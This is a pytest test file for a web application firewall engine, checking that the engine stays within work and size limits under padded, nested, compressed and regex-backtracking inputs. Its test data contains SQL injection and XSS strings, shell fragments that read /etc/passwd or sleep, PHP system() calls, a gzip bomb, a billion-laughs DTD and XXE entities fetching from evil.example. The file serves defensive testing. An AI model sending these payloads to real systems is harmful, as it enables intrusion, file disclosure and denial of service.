"""Adversarial inputs stay bounded: the parser caps points, the engine caps work and says
so with an `overlimit` hit instead of spending unbounded time."""

from __future__ import annotations

import base64
import dataclasses
import gc
import gzip
import io
import json
import random
import re
import string
import time
import urllib.parse
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pytest

from node import config, points
from node.detectors import vpatch
from node.engine import BATCH_TEXTS, MAX_HITS, VERDICT_CACHE, Engine, EngineSettings, opaque
from node.events import URI_CHARS, MemorySink
from node.inspector import Inspector
from node.points import Limits, Memo, extract
from node.protocol import parse_message
from node.rules import words
from node.testing import request_message
from node.types import AttackType, Request


def test_hundred_thousand_query_arguments_are_capped() -> None:
    uri = "/?" + "&".join(f"a{i}=v{i}" for i in range(100_000))
    points = list(extract(Request("GET", uri), Limits()))
    assert len(points) == Limits().max_points


def test_what_the_point_limit_leaves_unparsed_is_an_overlimit() -> None:
    """Padding must not carry a payload past the parser unseen: the request is reported
    (and blocked in block mode, by default), and what came before is still scanned."""
    padding = "&".join(f"a{i}=x" for i in range(2100))
    hits = Engine().scan(Request("GET", f"/?q=%27%20OR%201%3D1--&{padding}&r=%3Cscript%3E"))
    assert {(h.type, h.point, h.fragment) for h in hits} == {
        (AttackType.SQLI, "query.q", "' OR 1=1--"),
        (AttackType.OVERLIMIT, "query.a2045", "point limit of 2048 reached"),
    }


def test_what_nests_past_the_depth_limit_is_read_under_the_last_point_named() -> None:
    """An SDK's endpoint rules, a thread of replies, a syntax tree nest past 16 levels: no
    limit leaves them unread (an overlimit, blocked by default), nor padding a payload
    below them. Their values are read under the point where names stop, in order, keys'
    names too; as deep as the JSON parser goes (900 levels), with no recursion."""
    node: object = {"q": "<script>alert(1)</script>", "<svg onload=alert(1)>": 1}
    for _ in range(20):
        node = {"a": node}
    body = json.dumps(node).encode()
    hits = Engine().scan(Request("POST", "/", (("Content-Type", "application/json"),), body))
    deepest = "post.json" + ".a" * 16
    assert {(h.type, h.point) for h in hits} == {
        (AttackType.XSS, deepest),
        (AttackType.XSS, deepest + "._svg_onload_alert_1__.@key"),
    }
    listed = b"[" * 900 + b'"1 OR 1=1", ["2", {"k": "3", "k": "4"}, {"<i>": "5"}]' + b"]" * 900
    request = Request("POST", "/", (("Content-Type", "application/json"),), listed)
    values = [value for point, value in extract(request, Limits()) if point.startswith("post")]
    assert values == ["1 OR 1=1", "2", "3", "4", "<i>", "5"]


def test_configured_limits_reach_the_engine_and_the_verdict() -> None:
    settings = config.parse(
        {"route_config": {"wallarm_mode": "block"}, "limits": {"max_points": 16}}, env={}
    )
    inspector = Inspector(settings, MemorySink())
    query = "&".join(f"k{i}=v" for i in range(40))
    outcome = inspector.inspect(parse_message(request_message(f"/?{query}")), "inline")
    assert [h.fragment for h in outcome.hits] == ["point limit of 16 reached"]
    assert outcome.block


def _jwt(claims: object) -> str:
    def section(document: object) -> str:
        return base64.urlsafe_b64encode(json.dumps(document).encode()).decode().rstrip("=")

    return f"{section({'alg': 'HS256', 'typ': 'JWT'})}.{section(claims)}.c2lnbmF0dXJl"


@pytest.mark.parametrize("limits", [Limits(), Limits(max_points=6), Limits(max_depth=2)])
def test_a_header_seen_before_yields_the_same_points_and_limits(limits: Limits) -> None:
    """A Cookie, a bearer token and a Referer are parsed once and replayed after: the
    same points in the same order, and a limit reached at the same place, as when each
    is parsed afresh (a copy of the limits is a new parse)."""
    token = _jwt({"sub": "42", "roles": ["admin"], "meta": {"a": {"b": {"c": "<svg>"}}}})
    request = Request(
        "GET",
        "/orders?id=7",
        (
            ("Authorization", f"Bearer {token}"),
            ("Cookie", f"theme=dark; lang=en; session={token}"),
            ("Referer", "https://app.example.com/orders?tab=details&q=%27--"),
        ),
    )
    fresh = extract(request, dataclasses.replace(limits))
    for _ in range(2):
        again = extract(request, limits)
        assert again.items == fresh.items
        assert (again.cut, again.cut_at) == (fresh.cut, fresh.cut_at)
    assert bool(fresh.cut) == (limits.max_points != Limits().max_points)


def test_a_multipart_head_parsed_once_is_replayed_alike() -> None:
    """What a part's headers say is kept for the heads traffic repeats: the same points,
    in the same order, as when they are parsed afresh."""
    head = (
        "Content-Disposition: form-data; name=\"doc\"; name*=UTF-8''d%C3%B6c; "
        "filename=\"a.txt\"; filename*=UTF-8''%3Cb%3E.txt\r\n"
        "Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\nX-Note: <i>"
    )
    body = f"--B\r\n{head}\r\n\r\nPHN2Zz4=\r\n--B--\r\n".encode()
    request = Request("POST", "/up", (("Content-Type", "multipart/form-data; boundary=B"),), body)
    points._PART_HEADS.clear()
    fresh = extract(request, Limits()).items
    assert points._PART_HEADS.get(head) is not None
    assert extract(request, Limits()).items == fresh
    assert ("post.multipart.doc.filename", "<b>.txt") in fresh
    assert ("post.multipart.doc.header.X-NOTE", "<i>") in fresh
    assert ("post.multipart.doc.text", "<svg>") in fresh  # the content, base64 undone


@pytest.mark.parametrize("disposition", ['form-data; name=""', 'form-data; name=""; filename=""'])
def test_a_part_named_by_an_empty_string_is_read(disposition: str) -> None:
    """A part whose name is an empty quoted string is read by its position, as one with no
    name: the name read as nothing, not as the second of its pattern's groups (`None`),
    which the compiled parser refused with a TypeError: the request unanalysed, an
    overlimit the policy blocks."""
    body = f"--B\r\nContent-Disposition: {disposition}\r\n\r\n<script>x\r\n--B--\r\n".encode()
    request = Request("POST", "/up", (("Content-Type", "multipart/form-data; boundary=B"),), body)
    assert ("post.multipart.0.text", "<script>x") in extract(request, Limits()).items
    hits = Engine().scan(request)
    assert {h.type for h in hits} == {AttackType.XSS}
    assert all(h.point.startswith("post.multipart.0.") for h in hits)


def test_a_header_kept_is_out_of_the_garbage_collectors_sight() -> None:
    """What a header came to is kept as plain tuples of strings, which a full collection
    does not walk: kept in lists, they were most of a worker's pauses for a full
    collection."""
    cookie = "theme=dark; lang=en; sid=4a1f; cart=[1,2]"
    limits, names = Limits(), frozenset({"sid"})
    for _ in range(2):  # kept from its second time
        extract(Request("GET", "/", (("Cookie", cookie),)), limits, names)
    for _ in range(3):  # a tuple is let go once what it holds was: points, then the rest
        gc.collect()
    kept = points._EXPANSIONS.get(("COOKIE", cookie), limits, names)
    assert kept is not None and len(kept[0]) >= 4
    assert not gc.is_tracked(kept)
    # Kept for one set of limits and names at a time: others parse again.
    assert points._EXPANSIONS.get(("COOKIE", cookie), Limits(), names) is None


def test_a_header_is_kept_from_its_second_time_within_the_window() -> None:
    """A new session's cookie or token, met once, is parsed and not kept: keeping it,
    then dropping it with the rest, cost as much as parsing it."""
    limits, names = Limits(), frozenset[str]()
    window = points._EXPANSIONS.window

    def kept(cookie: str) -> bool:
        return points._EXPANSIONS.get(("COOKIE", cookie), limits, names) is not None

    def send(cookie: str) -> list[tuple[str, str]]:
        return extract(Request("GET", "/", (("Cookie", cookie),)), limits, names).items

    first = send("session=once")
    assert not kept("session=once")
    assert send("session=once") == first and kept("session=once")
    # Met again only after more than twice the window of other headers: new again.
    send("session=late")
    for index in range(2 * window + 1):
        points._EXPANSIONS.again(("COOKIE", f"session={index}"))
    send("session=late")
    assert not kept("session=late")


def test_a_memo_forgets_everything_past_its_weight() -> None:
    memo = Memo[str, int](10)
    memo.put("a", 1, 6)
    memo.put("b", 2, 4)
    assert memo.get("a") == 1
    memo.put("c", 3)
    assert (memo.get("a"), memo.get("b"), memo.get("c"), memo.weight) == (None, None, 3, 1)


def test_deep_json_is_depth_limited() -> None:
    body = ("[" * 50_000 + "]" * 50_000).encode()
    points = list(
        extract(
            Request("POST", "/", (("Content-Type", "application/json"),), body),
            Limits(max_body_bytes=2_000_000),
        )
    )
    # Deeper than the parser's stack: scanned as one text value, not a crash.
    assert [p for p, _ in points if p.startswith("post")] == ["post.text"]


def test_nested_json_past_depth_is_named_no_deeper() -> None:
    node: object = "deep"
    for _ in range(40):
        node = {"k": node}
    body = json.dumps(node).encode()
    points = list(
        extract(
            Request("POST", "/", (("Content-Type", "application/json"),), body),
            Limits(max_depth=16),
        )
    )
    assert points[-1] == ("post.json" + ".k" * 16, "deep")
    assert all(p.count(".k") <= 16 for p, _ in points)


_SQLI = "1 OR 'a'='a'"


@pytest.mark.parametrize(
    ("first", "template", "point"),
    [
        ("/page?id=1%20OR%20'a'%3D'a'", "/page?id={}&ref=feed", "post.json.links.0.query.id"),
        ("id=1%20OR%20'a'%3D'a'&ref=x", "utm_source=x{}&utm_medium=y", "post.json.links.0.form.id"),
        (
            json.dumps({"q": _SQLI, "note": "x"}),
            '{{"id": "{}", "note": "x", "tag": "y", "by": "z"}}',
            "post.json.links.0.json.q",
        ),
        (_jwt({"sub": _SQLI}), "{}", "post.json.links.0.jwt.claims.sub"),
    ],
    ids=["links", "query strings", "JSON strings", "tokens"],
)
def test_a_body_of_many_strings_read_again_stays_within_the_point_limit(
    first: str, template: str, point: str
) -> None:
    """What is read again out of values (a URL's query, a form string, a JSON document in
    a string, a token's claims) fills a budget of its own: past it the values are read
    whole only, and a thousand of them, each read again, are no overlimit."""
    tokens = template == "{}"
    links = [first] + [
        _jwt({"sub": f"user{n}", "scope": "read"}) if tokens else template.format(n)
        for n in range(1_000)
    ]
    body = json.dumps({"links": links}).encode()
    hits = Engine().scan(Request("POST", "/", (("Content-Type", "application/json"),), body))
    assert AttackType.OVERLIMIT not in {hit.type for hit in hits}
    assert ("sqli", point) in {(h.type.value, h.point) for h in hits}


@pytest.mark.parametrize("own", [2_000, 2_100])
def test_values_read_again_leave_the_request_its_own_point_limit(own: int) -> None:
    """A value read again (a JSON string of 3,000 members) takes nothing from what the
    request's own values may be: 2,000 of them after it fit the limit of 2,048, and their
    last is analysed; 2,100 are past it, an overlimit as without the string."""
    inner = json.dumps({f"m{n}": f"v{n}" for n in range(3_000)})
    document = {"doc": inner, **{f"k{n}": f"w{n}" for n in range(own - 1)}}
    document[f"k{own}"] = "<script>alert(1)</script>"
    body = json.dumps(document).encode()
    request = Request("POST", "/", (("Content-Type", "application/json"),), body)
    parsed = extract(request, Limits(max_body_bytes=1 << 20))
    derived = sum(name.startswith("post.json.doc.json.") for name, _ in parsed)
    assert derived == 2_048  # the budget of what is read again, spent
    if own <= 2_048:
        assert not parsed.cut
        assert parsed[-1] == (f"post.json.k{own}", "<script>alert(1)</script>")
    else:
        assert parsed.cut == "point limit of 2048 reached"
        assert len(parsed) == 2_048 + derived


def test_a_long_json_body_read_again_keeps_its_own_point_limit() -> None:
    """A JSON body past `max_body_bytes`, parsed whole, has what is read again out of its
    values counted as a shorter one has: 1,900 events, each with a JSON string, are no
    overlimit, and the last one's payload is found in it."""
    events = [{"id": n, "message": json.dumps({"a": f"x{n}", "b": f"y{n}"})} for n in range(1_900)]
    events.append({"id": 0, "message": json.dumps({"q": "<script>alert(1)</script>"})})
    body = json.dumps(events).encode()
    assert len(body) > Limits().max_body_bytes
    request = Request("POST", "/", (("Content-Type", "application/json"),), body)
    parsed = extract(request, Limits())
    assert not parsed.cut
    assert sum(name.endswith(".json.a") for name, _ in parsed) == 1_024  # the budget's half
    hits = {(h.type.value, h.point) for h in Engine().scan(request)}
    assert ("xss", "post.json.1900.message") in hits


def test_a_header_replayed_after_values_read_again_yields_the_same_points() -> None:
    """A Cookie kept with what was read again in it is replayed only where the request
    has that much of the budget left; elsewhere it is parsed, to the same points."""
    cart = json.dumps({"item": "7", "note": "gift", "size": "m"})
    for bound in range(2, 12):
        limits = Limits(max_points=bound)
        query = "&".join(f"f{n}=" + json.dumps({"a": str(n)}) for n in range(bound // 2))
        request = Request("GET", f"/?{query}", (("Cookie", f"cart={cart}; lang=en"),))
        fresh = extract(request, dataclasses.replace(limits))
        for _ in range(2):  # kept from the second time, replayed from the third
            again = extract(request, limits)
            assert again.items == fresh.items
            assert (again.cut, again.cut_at) == (fresh.cut, fresh.cut_at)


def test_work_cap_reports_overlimit() -> None:
    engine = Engine(EngineSettings(work_cap=10_000))
    body = " ".join(f"word{i}" for i in range(40_000)).encode()  # no run to fold
    hits = engine.scan(Request("POST", "/", (("Content-Type", "text/plain"),), body))
    assert [h.type for h in hits] == [AttackType.OVERLIMIT]
    assert hits[0].rule == 1


def test_a_request_that_reaches_the_hit_limit_is_read_no_further() -> None:
    # 2,000 injections of some 14 characters: the work cap falls at the 1,400th, but the
    # batch of texts the first ones are in holds `MAX_HITS` hits, and the engine stops
    # there, before decoding the rest.
    engine = Engine(EngineSettings(work_cap=20_000))
    values = [f"1' OR '{n}'='{n}" for n in range(2000)]
    body = json.dumps(values).encode()
    hits = engine.scan(Request("POST", "/", (("Content-Type", "application/json"),), body))
    assert len(hits) == MAX_HITS
    assert {hit.type for hit in hits} == {AttackType.SQLI}


def test_a_value_met_again_past_a_batch_is_found_at_each_position() -> None:
    # The first `<script>` is confirmed in the first batch of texts, the second met after
    # it: each position has its hit, as a value met twice in one batch has.
    payload = "<script>alert(1)</script>"
    values = [payload] + [f"word{n}" for n in range(BATCH_TEXTS + 100)] + [payload, payload]
    body = json.dumps(values).encode()
    hits = Engine().scan(Request("POST", "/", (("Content-Type", "application/json"),), body))
    last = len(values) - 1
    assert {hit.point for hit in hits} == {
        "post.json.0",
        f"post.json.{last - 1}",
        f"post.json.{last}",
    }


@pytest.mark.parametrize(
    ("content_type", "body", "point"),
    [
        ("text/plain", b"a" * 4096 + b"<script>alert(1)</script>", "post.tail"),
        (
            "application/json",
            b'{"pad": "' + b"a" * 4096 + b'", "q": "<script>alert(1)</script>"}',
            "post.json.q",  # a JSON document is parsed whole
        ),
        (
            "application/x-www-form-urlencoded",
            b"pad=" + b"a" * 4096 + b"&q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
            "post.form.q",
        ),
        (
            "multipart/form-data; boundary=B",
            b'--B\r\nContent-Disposition: form-data; name="pad"\r\n\r\n'
            + b"a" * 4096
            + b'\r\n--B\r\nContent-Disposition: form-data; name="q"\r\n\r\n'
            b'"><script>alert(1)</script>\r\n--B--\r\n',
            "post.multipart.q.text",
        ),
    ],
)
def test_padding_does_not_carry_a_payload_past_the_body_limit(
    content_type: str, body: bytes, point: str
) -> None:
    engine = Engine(EngineSettings(limits=Limits(max_body_bytes=1024)))
    hits = engine.scan(Request("POST", "/", (("Content-Type", content_type),), body))
    assert [(h.type, h.point) for h in hits] == [(AttackType.XSS, point)]


_PAD = b"a" * 3000
_PADDED_ARRAY = '["' + "a" * 3000 + '", "<script>alert(1)</script>", "' + "a" * 3000 + '"]'


@pytest.mark.parametrize(
    ("content_type", "body", "point"),
    [
        (
            "application/json",
            b'{"pad": "' + _PAD + b'", "q": "<script>alert(1)</script>", "end": "' + _PAD + b'"}',
            "post.json.q",
        ),
        (
            "application/json",
            b'["' + _PAD + b'", "<script>alert(1)</script>", "' + _PAD + b'"]',
            "post.json.1",
        ),
        (
            "application/json",  # UTF-16, as its NULs tell a JSON parser
            _PADDED_ARRAY.encode("utf-16-le"),
            "post.json.1",
        ),
        (
            "application/json; charset=ibm037",
            _PADDED_ARRAY.encode("cp037"),
            "post.json.1",
        ),
        (
            "application/x-www-form-urlencoded",
            b"pad=" + _PAD + b"&q=%3Cscript%3Ealert(1)%3C%2Fscript%3E&end=" + _PAD,
            "post.form.q",
        ),
        (
            "multipart/form-data; boundary=B",
            b'--B\r\nContent-Disposition: form-data; name="pad"\r\n\r\n'
            + _PAD
            + b'\r\n--B\r\nContent-Disposition: form-data; name="q"\r\n\r\n'
            b'"><script>alert(1)</script>\r\n--B\r\nContent-Disposition: form-data; name="end"'
            b"\r\n\r\n" + _PAD + b"\r\n--B--\r\n",
            "post.multipart.q.text",
        ),
        (
            "text/xml",
            b"<r><pad>"
            + _PAD
            + b"</pad><q>&lt;script&gt;alert(1)&lt;/script&gt;</q><end>"
            + _PAD
            + b"</end></r>",
            "post.xml.r.q",
        ),
    ],
)
def test_padding_on_both_sides_of_a_field_does_not_hide_it(
    content_type: str, body: bytes, point: str
) -> None:
    """The fields of a form, a multipart, a JSON or an XML body past the limit are read
    whole up to a share of twice the limit, a longer one at both its ends: a short field
    between two long ones (the middle of the body) is read, and no more is read than of a
    text."""
    limits = Limits(max_body_bytes=1024)
    request = Request("POST", "/", (("Content-Type", content_type),), body)
    hits = Engine(EngineSettings(limits=limits)).scan(request)
    assert [(h.type, h.point) for h in hits] == [(AttackType.XSS, point)]
    points = extract(request, limits)
    assert sum(len(value) for _, value in points) <= 2 * 1024 + 120  # and names, headers
    assert 0 < points.unparsed < len(body) - 2 * 1024 + 120
    if _PAD not in body:
        return  # encoded otherwise
    # The end of a long field is read: what is added to it counts.
    padded = body.replace(_PAD, _PAD + b" <svg onload=alert(1)>", 1)
    found = Engine(EngineSettings(limits=limits)).scan(
        Request("POST", "/", request.headers, padded)
    )
    assert {h.point for h in found} - {point}


def test_a_json_array_names_only_the_positions_that_hold_points() -> None:
    """Numbers, booleans, nulls and empty arrays and objects are no points and hold none:
    a megabyte of them is walked, not named (the string among them keeps its position)."""
    body = json.dumps([0, True, None, [], {}] * 20_000 + ["<script>", [["x"]], {"a": "y"}])
    request = Request("POST", "/", (("Content-Type", "application/json"),), body.encode())
    assert list(extract(request, Limits())) == [
        ("path", "/"),
        ("post.json.100000", "<script>"),
        ("post.json.100001.0.0", "x"),
        ("post.json.100002.a", "y"),
    ]


@pytest.mark.parametrize(
    ("content_type", "body", "point"),
    [
        ("application/json", lambda text: json.dumps({"a": text}).encode(), "post.json.a"),
        (
            "application/x-www-form-urlencoded",
            lambda text: b"a=" + urllib.parse.quote(text).encode(),
            "post.form.a",
        ),
        (
            "multipart/form-data; boundary=B",
            lambda text: (
                b'--B\r\nContent-Disposition: form-data; name="a"\r\n\r\n'
                + text.encode()
                + b"\r\n--B--\r\n"
            ),
            "post.multipart.a.text",
        ),
    ],
)
def test_a_value_longer_than_the_limit_is_decoded_in_two(
    content_type: str, body: Callable[[str], bytes], point: str
) -> None:
    """A value of a body past the limit, kept whole, is no longer than the longest value
    the engine decodes: one of 100 KB is two points, its first 64 KB and the rest from 8 KB
    before them. Whole, its escapes were not undone (`%253Cscript%253E` at its end)."""
    rng = random.Random(3)
    words = " ".join(
        f"{rng.choice(('river', 'stone', 'amber', 'orbit'))}{n}" for n in range(12_000)
    )
    text = words[:100_000] + " %253Cscript%253Ealert(1)%253C%252Fscript%253E"
    request = Request("POST", "/", (("Content-Type", content_type),), body(text))
    values = [value for name, value in extract(request, Limits()) if name == point]
    assert [len(value) for value in values] == [65536, len(text) - 65536 + 8192]
    hits = Engine().scan(request)
    assert [(h.type, h.point) for h in hits] == [(AttackType.XSS, point)]


def test_a_compressed_body_is_read_as_long_as_it_inflates() -> None:
    """A body in gzip or deflate is inflated to sixteen times `max_body_bytes` (a megabyte
    by default) and read as a body sent so long is: inflated to the limit only, 148 bytes
    of gzip hid a field after 64 KB of padding. What a bomb inflates to past that is
    unread, an overlimit where `oversize_body` is `overlimit`."""
    limits = Limits(max_body_bytes=1024)
    document = json.dumps({"pad": "x" * 5000, "q": "<script>alert(1)</script>", "end": "y"})
    for coding, compress in (("gzip", gzip.compress), ("deflate", zlib.compress)):
        headers = (("Content-Type", "application/json"), ("Content-Encoding", coding))
        request = Request("POST", "/", headers, compress(document.encode()))
        hits = Engine(EngineSettings(limits=limits)).scan(request)
        assert [(h.type, h.point) for h in hits] == [(AttackType.XSS, "post.json.q")]
    bomb = gzip.compress(b"[" + b'"a",' * 10_000 + b'"<script>alert(1)</script>"]')
    headers = (("Content-Type", "application/json"), ("Content-Encoding", "gzip"))
    request = Request("POST", "/", headers, bomb)
    assert extract(request, limits).uninflated == 16 * 1024
    assert Engine(EngineSettings(limits=limits)).scan(request) == []
    reported = Engine(EngineSettings(limits=limits, report_unparsed=True)).scan(request)
    assert ("post", "a body inflated past 16384 bytes, the rest unread") in {
        (h.point, h.fragment) for h in reported
    }
    # A compressed batch of more values than points is an overlimit, as sent whole.
    batch = gzip.compress(json.dumps([f"record {n}" for n in range(6000)]).encode())
    hits = Engine().scan(Request("POST", "/", headers, batch))
    assert [(h.type, h.fragment) for h in hits] == [
        (AttackType.OVERLIMIT, "point limit of 2048 reached")
    ]


def test_empty_fields_hide_no_field_and_too_many_are_an_overlimit() -> None:
    """A form's `&&&&` are no fields: padding of them does not take a field out of the
    analysis. A form or multipart body of more fields than twice `max_points` (enough to
    pass the point limit twice, were each a value) is an overlimit, read at its ends."""
    engine = Engine(EngineSettings(limits=Limits(max_body_bytes=1024)))
    form = (("Content-Type", "application/x-www-form-urlencoded"),)
    field = b"q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"
    hits = engine.scan(Request("POST", "/", form, b"&" * 5000 + field + b"&" * 5000))
    assert [(h.type, h.point) for h in hits] == [(AttackType.XSS, "post.form.q")]
    many = b"a=1&" * 2500 + field + b"&a=1" * 2500
    hits = engine.scan(Request("POST", "/", form, many))
    assert [(h.type, h.point, h.fragment) for h in hits] == [
        (AttackType.OVERLIMIT, "post.form", "more than 4096 fields")
    ]
    part = b'--B\r\nContent-Disposition: form-data; name="a"\r\n\r\n\r\n'
    parts = part * 3000 + b'--B\r\nContent-Disposition: form-data; name="q"\r\n\r\n<script>'
    multipart = (("Content-Type", "multipart/form-data; boundary=B"),)
    hits = engine.scan(Request("POST", "/", multipart, parts + b"\r\n" + part * 3000 + b"--B--"))
    assert (AttackType.OVERLIMIT, "post.multipart") in {(h.type, h.point) for h in hits}


def test_an_xml_body_of_more_tags_than_points_could_hold_is_read_at_its_ends() -> None:
    """Parsed whole, an XML body of four times `max_points` tags or more would cost its
    every tag (a megabyte of nested ones, 0.6 s): it is read at its ends, as a text is."""
    limits = Limits(max_body_bytes=1024, max_points=1024)
    xml = (("Content-Type", "application/xml"),)

    def nested(depth: int) -> bytes:
        return b"<a>" * depth + b"<q>' OR 1=1--</q>" + b"</a>" * depth

    fewer = extract(Request("POST", "/", xml, nested(2000)), limits)
    assert [value for _, value in fewer][-1] == "' OR 1=1--" and fewer.unparsed == 0
    body = nested(2100)
    more = extract(Request("POST", "/", xml, body), limits)
    assert "' OR 1=1--" not in [value for _, value in more]
    assert more.unparsed == len(body) - 2 * 1024


def test_expanding_entities_adds_a_bounded_text() -> None:
    """A billion laughs (each of ten entities ten references to the one before) would make
    a gigabyte of text: references are expanded while `EXPANSION_CHARS` has room, the rest
    left as they are, in each of many texts referring to the largest."""
    declarations = '<!ENTITY l0 "lol">' + "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)
    )
    body = f"<!DOCTYPE r [{declarations}]><r>" + "<q>&l9;</q>" * 1000 + "</r>"
    request = Request("POST", "/", (("Content-Type", "application/xml"),), body.encode())
    values = extract(request, Limits(max_body_bytes=1 << 20)).items
    assert sum(len(value) for _, value in values) < len(body) + 2 * points.EXPANSION_CHARS


def test_the_middle_of_a_body_past_twice_the_limit_is_not_analysed() -> None:
    engine = Engine(EngineSettings(limits=Limits(max_body_bytes=1024)))
    body = b"a" * 2048 + b"<script>alert(1)</script>" + b"a" * 2048
    assert engine.scan(Request("POST", "/", (("Content-Type", "text/plain"),), body)) == []


def test_long_repetitive_strings_finish() -> None:
    engine = Engine()
    for value in ("<" * 200_000, "'" * 200_000, "a(" * 100_000, "%25" * 60_000):
        engine.scan(Request("POST", "/", (("Content-Type", "text/plain"),), value.encode()))


@pytest.mark.parametrize(
    "value",
    [
        "/" + "a" * 60_000 + "/*",  # one long path segment, then a wildcard
        "a/" * 30_000 + "/*",
        "/?" * 30_000,
        '" ' * 30_000 + "onload=",
        "//" + "a" * 60_000 + "@",
        "${{" * 20_000,
        ")(" * 30_000,
        "\n" * 60_000 + "%",  # blank lines, routed to every class that reads line breaks
        "%0d%0a" * 10_000 + "%",
        "\r\n" * 30_000 + "rcpt to:",
        " " * 60_000 + "javascript:",
        "(select /*" * 6_500,  # comments never closed, each tried to the end
        "a//" * 20_000,
        "union/**/" * 7_000,  # one 64 KB glob: fnmatch compiled it whole
        "un/**/ion " * 6_500,  # thousands of globs, each matched against every target
        # Openers of every template syntax at every position: each detector's patterns
        # may start anywhere (a quarter of a second before runs were folded).
        "{{x}}${y}#{z}*{w}@{v}~{u}<%=t%>" * 2_100,
        "$a$b$c$d${e}${f}{{g}}{{h}}" * 2_500,
        # Accented letters glued to a quote that closes no value: a check that read each
        # as a word character or a non-ASCII one tried 4^16 ways (found by fuzzing).
        "þÿ" * 16 + "]]þ');\">",
        # Markup whose tag is one long attribute name with no `=`: each of its characters
        # started the name again (35 s for 64 KB, whatever the Content-Type but JSON).
        "<a " + "x" * 64_000 + ">",
        # Loopback URLs run together, then a word: each was followed to the end of the run
        # (0.3 s); and each URL a literal of a call: each looked through every literal.
        "".join(f"//localhost/{n}" for n in range(4_500)) + " returns ok",
        "".join(f"f('http://localhost/{n}'); " for n in range(2_200)),
        # Comparisons of literals a value opened itself, each counting the quotes before
        # it from the start (0.1 s).
        "x'" + "".join(f"a{n}' || 'a{n}'=='" for n in range(4_000)),
        # One line of commands in a comment's reach, each counting the line's quotes from
        # its start (0.15 s).
        "".join(f"| sleep 5 #{n}(" for n in range(5_000)),
        # Thousands of distinct globs, each compiled by fnmatch to be tried (90 ms).
        "".join(f"; cat /e*/p*{n}d" for n in range(4_500)),
        # SQL's comments read as globs, each matched star by star against every target.
        "".join(f"UnIoN/**/SeLeCt/{n}**/1,2 " for n in range(2_500)),
        # A call's literal arguments by the thousand, each looked past for the quote that
        # closes the query's literal (bounded: `sqli._ARGUMENTS_PAST`).
        "x(" + ", ".join(f"'a{n}'" for n in range(8_000)) + ")' or '1'='1",
        # Rich text's tags run together after a fence, none before another: a pattern that
        # took the run from each tag, then looked for a fence after it (7 s for 64 KB).
        "```x " + "".join(f"<p class=a{n}><br>" for n in range(4_000)) + " y",
        # Parts of a multipart body shown, each delimiter its own, none that comes again.
        "".join(f"\n--b{n}\ncontent-type: t{n}\n" for n in range(4_000)),
        # A variable's call opening TeX's math at every turn, never closed.
        "".join(f"$a{n}(" + "x" * 150 for n in range(400)),
        # PHP's code of thousands of variables set from the request and calls that run
        # others: each call's argument read once for the variables it names.
        "$this->x();\n"
        + "".join(f"$v{n} = $_GET['a{n}'];\nsystem($w{n});\n" for n in range(2_500)),
        # A word a line: a look-ahead for a URL scheme's colon from each line break read
        # the lines after it again (0.5 s).
        "\n".join(
            "".join(random.Random(n).choices(string.ascii_lowercase, k=2 + n % 7))
            for n in range(8_000)
        ),
        # A capitalised name of 64,000 letters (no run for folding to shorten) cast: tried
        # as Gradle's coordinates and a PHP class's name at each split of it (5 s); casts
        # by the thousand, each a Rust module's function called or item imported, each
        # looked for a `use` from its line's start (1.6 s).
        "A" + "".join(random.Random(5).choices(string.ascii_lowercase, k=64_000)) + "::int",
        "".join(f"m{n}::int( " for n in range(6_000)),
        "".join(f"use m{n}::int;" for n in range(5_000)),
        # Declarations whose internal subset never closes: each looked for its `]` to the
        # end of the text (0.3 s).
        "".join(
            f'<!DOCTYPE a [<!ENTITY % x{n} SYSTEM "http://evil.example/x.dtd" '
            for n in range(1_000)
        ),
    ],
    ids=lambda v: repr(v[:12]),
)
def test_adversarial_values_stay_bounded(value: str) -> None:
    # 50 ms is the design bound; the assertion allows 40 times that on a loaded CI machine
    # and still catches any regex that backtracks quadratically (seconds to minutes).
    engine = Engine()
    request = Request("POST", "/", (("Content-Type", "text/plain"),), value.encode())
    started = time.process_time()
    engine.scan(request)
    assert time.process_time() - started < 2.0


@pytest.mark.parametrize(
    ("content_type", "value"),
    [
        # A key, a line of blanks, no colon: a lazy key before blanks and a colon tried
        # every blank from every blank (0.8 s for 16 KB).
        ("application/yaml", "a" + " " * 64_000 + "b"),
        ("application/yaml", "a" + " \t" * 32_000 + ":"),
        ("application/yaml", "- " * 32_000 + "x"),
        ("application/yaml", "'" * 64_000),
        ("application/yaml", '"' + '\\"' * 32_000),
        ("application/yaml", "\n".join(" " * i + "k:" for i in range(360))),
        ("application/yaml", "k: |\n" + "  x\n" * 30_000),
        ("text/csv", '"' + "x" * 200_000),  # one field past the csv module's limit
        ("text/csv", "a,b\n" + '"x"",' * 15_000),
        ("text/csv", ",\n" * 32_000),
        # JSON read leniently: quotes that close nothing, comments that never close, the
        # most places to rewrite.
        ("application/json", "'" * 64_001),
        ("application/json", "'\\" * 32_000),
        ("application/json", "/*" * 32_000),
        ("application/json", "{'a':'b'," * 8_000),
        ("application/json", "a:" * 32_000),
        # Protobuf by its wire format: a field at every other byte, messages nested as
        # deep as they go, lengths past the end, frames that claim gigabytes.
        ("application/x-protobuf", "\x08\x01" * 32_000),
        ("application/x-protobuf", "\x0a\x7f" * 32_000),
        ("application/grpc", "\x00\xff\xff\xff\xff" * 12_000),
        ("application/grpc", "\x00\x00\x00\xfa\x00" + "\x0a\x01a" * 20_000),
        # MessagePack: arrays as deep as they go, counts and lengths that claim gigabytes,
        # a value at every byte.
        ("application/msgpack", "\x91" * 60_000),
        ("application/msgpack", "\xdf\xff\xff\xff\xff" + "\xa1a" * 30_000),
        ("application/msgpack", "\xdd\x00\x01\x00\x00" + "\xc0" * 60_000),
        ("application/msgpack", "\xdb\xff\xff\xff\xff" + "'" * 60_000),
        # Shell variables by the thousand before a lone `&`, then logic and a comparison:
        # a pattern for a shell's line tried every `$` to that `&` again (11 s).
        (
            "application/json",
            json.dumps({"q": "".join(f"$v{n}" for n in range(12_000)) + " & 1 && x=1"}),
        ),
        # A Dockerfile of thousands of RUN lines, each with a list, or one RUN line of
        # thousands: every command in them is passed over, each found in the spans of
        # instructions read once (a line looked for from each separator again is not).
        (
            "text/plain",
            "FROM x\n" + "".join(f"RUN a{n} && ls -l /x{n} \\\n" for n in range(2500)),
        ),
        ("text/plain", "FROM x\nRUN a " + "".join(f"; ls -l {n} " for n in range(4000))),
    ],
    ids=lambda v: repr(v[:12]),
)
